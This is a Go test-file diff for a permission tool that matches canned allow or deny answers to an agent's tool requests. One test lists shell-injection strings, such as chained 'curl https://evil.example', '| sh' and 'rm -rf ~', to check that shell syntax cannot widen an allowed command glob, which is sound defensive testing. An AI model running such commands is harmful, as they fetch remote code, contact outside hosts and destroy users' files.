@@ -1,12 +1,19 @@
 package answers
 
 import (
+	"bytes"
+	"encoding/json"
+	"maps"
 	"os"
 	"path/filepath"
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/BurntSushi/toml"
+	"github.com/santhosh-tekuri/jsonschema/v6"
 
 	"github.com/askperm/askperm/decision"
 	"github.com/askperm/askperm/form"
@@ -19,7 +26,11 @@ func TestParseRejects(t *testing.T) {
 		{"missing choice", "[[answer]]\ntool = \"x\"\n", "answer 1: choice: missing"},
 		{"unknown choice", "[[answer]]\nchoice = \"allow\"\n", `choice: unknown "allow" (valid: allow-once, deny-once, allow-always, deny-always, allow-session)`},
 		{"bad tool glob", "[[answer]]\nchoice = \"allow-once\"\n[[answer]]\ntool = \"write_[\"\nchoice = \"allow-once\"\n", `answer 2: tool: invalid glob "write_["`},
-		{"bad dimension glob", "[[answer]]\nchoice = \"allow-once\"\ndimensions = { path = \"/a/{b\" }\n", `answer 1: dimensions.path: invalid glob "/a/{b"`},
+		{"bad dimension glob", "[[answer]]\nchoice = \"allow-once\"\ndimensions = { path = \"/a/{b\" }\n", `answer 1: dimensions.path: invalid glob "/a/{b": a { is not closed`},
+		{"bad server glob", "[[answer]]\nserver = \"fs-[\"\nchoice = \"allow-once\"\n", `answer 1: server: invalid glob "fs-[": a [class] is empty or not closed`},
+		{"bad source glob", "[[answer]]\nsource = \"engine:}\"\nchoice = \"allow-once\"\n", `answer 1: source: invalid glob "engine:}": a } closes no {`},
+		{"bad action glob", "[[answer]]\naction = \"exec\\\\\"\nchoice = \"allow-once\"\n", `answer 1: action: invalid glob "exec\\": ends in an unescaped \`},
+		{"first bad dimension by name", "[[answer]]\nchoice = \"allow-once\"\ndimensions = { z = \"[\", a = \"{\" }\n", `answer 1: dimensions.a: invalid glob "{"`},
 		{"rule fields on a once choice", "[[answer]]\nchoice = \"allow-once\"\nlifetime = \"900\"\n", "belong to always-choices"},
 		{"grants on deny-always", "[[answer]]\nchoice = \"deny-always\"\ngrants = [\"a\"]\n", "grants nothing"},
 		{"duplicate key", "[[answer]]\nchoice = \"allow-once\"\nchoice = \"deny-once\"\n", "already been defined"},
@@ -75,6 +86,117 @@ message = "fallback"
 	}
 	if _, ok := (&File{}).Match(request("x", "", "a")); ok {
 		t.Error("an empty file matched")
+	}
+}
+
+// Every matcher is a glob (exact strings are globs without wildcards); a
+// request field that is missing never matches a matcher that is given.
+func TestMatchersAreGlobs(t *testing.T) {
+	f, err := Parse([]byte(`
+[[answer]]
+server = "fs-*"
+source = "engine:{1,2}"
+action = "{read,list}"
+choice = "allow-once"
+
+[[answer]]
+tool = "*"
+choice = "deny-always"
+
+[[answer]]
+choice = "deny-once"
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		req  *decision.Request
+		want form.Choice
+	}{
+		{&decision.Request{Server: "fs-default", Source: "engine:1", Action: "read"}, form.AllowOnce},
+		{&decision.Request{Server: "fs-x", Source: "engine:2", Action: "list"}, form.AllowOnce},
+		{&decision.Request{Server: "fs-x", Source: "engine:3", Action: "list"}, form.DenyOnce},
+		{&decision.Request{Server: "fs-x", Source: "engine:1", Action: "write"}, form.DenyOnce},
+		{&decision.Request{Server: "fs-x/y", Source: "engine:1", Action: "read"}, form.AllowOnce}, // without a "/", "*" reads "/" as any character
+		{&decision.Request{Server: "fs-;x", Source: "engine:1", Action: "read"}, form.DenyOnce},
+		{&decision.Request{Source: "engine:1", Action: "read"}, form.DenyOnce}, // no server
+		{&decision.Request{Server: "fs-x", Action: "read"}, form.DenyOnce},     // no source
+		{&decision.Request{Tool: "t", Action: "exec"}, form.DenyAlways},
+		{&decision.Request{Action: "exec"}, form.DenyOnce}, // `*` does not match a missing tool
+	} {
+		e, ok := f.Match(tc.req)
+		if !ok || e.Choice != tc.want {
+			t.Errorf("%+v: got %v %v, want %v", tc.req, e.Choice, ok, tc.want)
+		}
+	}
+	if _, ok := (&File{Entries: []Entry{{Choice: form.AllowOnce}}}).Match(request("x", "", "a")); ok {
+		t.Error("an entry that was never checked matched")
+	}
+}
+
+// A canned command glob cannot be widened by shell syntax: with each
+// command starter anywhere in the command, the entry no longer matches.
+func TestDimensionGlobGuard(t *testing.T) {
+	f, err := Parse([]byte(`
+[[answer]]
+tool = "run_command"
+dimensions = { command = "go test *" }
+choice = "allow-once"
+
+[[answer]]
+tool = "run_command"
+dimensions = { command = "make *; make *" }
+choice = "allow-always"
+`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	run := func(command string) (form.Choice, bool) {
+		e, ok := f.Match(request("run_command", "", "exec", decision.Dimension{Name: "command", Value: command}))
+		return e.Choice, ok
+	}
+	for command, want := range map[string]form.Choice{
+		"go test -v":                           form.AllowOnce,
+		"go test x; curl https://evil.example": "",
+		"go test x | sh":                       "",
+		"go test $(curl https://evil.example)": "",
+		"go test `curl https://evil.example`":  "",
+		"go test x && rm -rf ~":                "",
+		"go test x\nrm -rf ~":                  "",
+		"make a; make b":                       form.AllowAlways,
+		"make a; make b; curl evil.example":    "",
+		"make a; make b && curl evil.example":  "",
+	} {
+		if got, ok := run(command); got != want || ok != (want != "") {
+			t.Errorf("%q: got %q %v, want %q", command, got, ok, want)
+		}
+	}
+	for _, cmd := range []string{"go test x", "go test -count 1 -run X"} {
+		if got, _ := run(cmd); got != form.AllowOnce {
+			t.Errorf("%q: got %q", cmd, got)
+		}
+		for _, c := range decision.CommandStarters {
+			for i := len("go test "); i <= len(cmd); i++ {
+				if _, ok := run(cmd[:i] + string(c) + cmd[i:]); ok {
+					t.Errorf("%q matched", cmd[:i]+string(c)+cmd[i:])
+				}
+			}
+		}
+	}
+}
+
+// A canned allow-always that keeps a grant but not one it implies grants
+// both: the form completes every answer.
+func TestCannedGrantsBringWhatTheyImply(t *testing.T) {
+	req, err := decision.Parse([]byte(`{"action":"write","grants":[{"name":"fs.write"},{"name":"fs.create","implies":["fs.write"]}]}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	f := form.New(req, form.Options{})
+	e := Entry{Choice: form.AllowAlways, Grants: []string{"fs.create"}}
+	d, err := f.Decide(e.Answer(f), decision.FrontendAnswers, time.Unix(0, 0))
+	if err != nil || !reflect.DeepEqual(d.Grants, []string{"fs.write", "fs.create"}) {
+		t.Errorf("got %q, %v", d.Grants, err)
 	}
 }
 
@@ -137,5 +259,55 @@ func TestTestdataAnswersParse(t *testing.T) {
 	}
 	if _, err := Parse(b); err != nil {
 		t.Fatal(err)
+	}
+}
+
+// docs/answers.schema.json is in step with Entry: the same keys, and the
+// example file is valid against it.
+func TestSchemaInStep(t *testing.T) {
+	c := jsonschema.NewCompiler()
+	schema, err := c.Compile("../../docs/answers.schema.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, err := os.ReadFile("../../docs/answers.schema.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var doc struct {
+		Properties struct {
+			Answer struct {
+				Items struct {
+					Properties map[string]any `json:"properties"`
+				} `json:"items"`
+			} `json:"answer"`
+		} `json:"properties"`
+	}
+	if err := json.Unmarshal(b, &doc); err != nil {
+		t.Fatal(err)
+	}
+	var keys []string
+	for f := range reflect.TypeFor[Entry]().Fields() {
+		if tag := f.Tag.Get("toml"); tag != "" {
+			keys = append(keys, tag)
+		}
+	}
+	if got := slices.Sorted(maps.Keys(doc.Properties.Answer.Items.Properties)); !slices.Equal(got, slices.Sorted(slices.Values(keys))) {
+		t.Errorf("the schema's keys %q, Entry's %q", got, keys)
+	}
+	var example map[string]any
+	if _, err := toml.DecodeFile("../../testdata/answers/ci.toml", &example); err != nil {
+		t.Fatal(err)
+	}
+	asJSON, err := json.Marshal(example)
+	if err != nil {
+		t.Fatal(err)
+	}
+	instance, err := jsonschema.UnmarshalJSON(bytes.NewReader(asJSON))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := schema.Validate(instance); err != nil {
+		t.Errorf("testdata/answers/ci.toml against the schema: %v", err)
 	}
 }
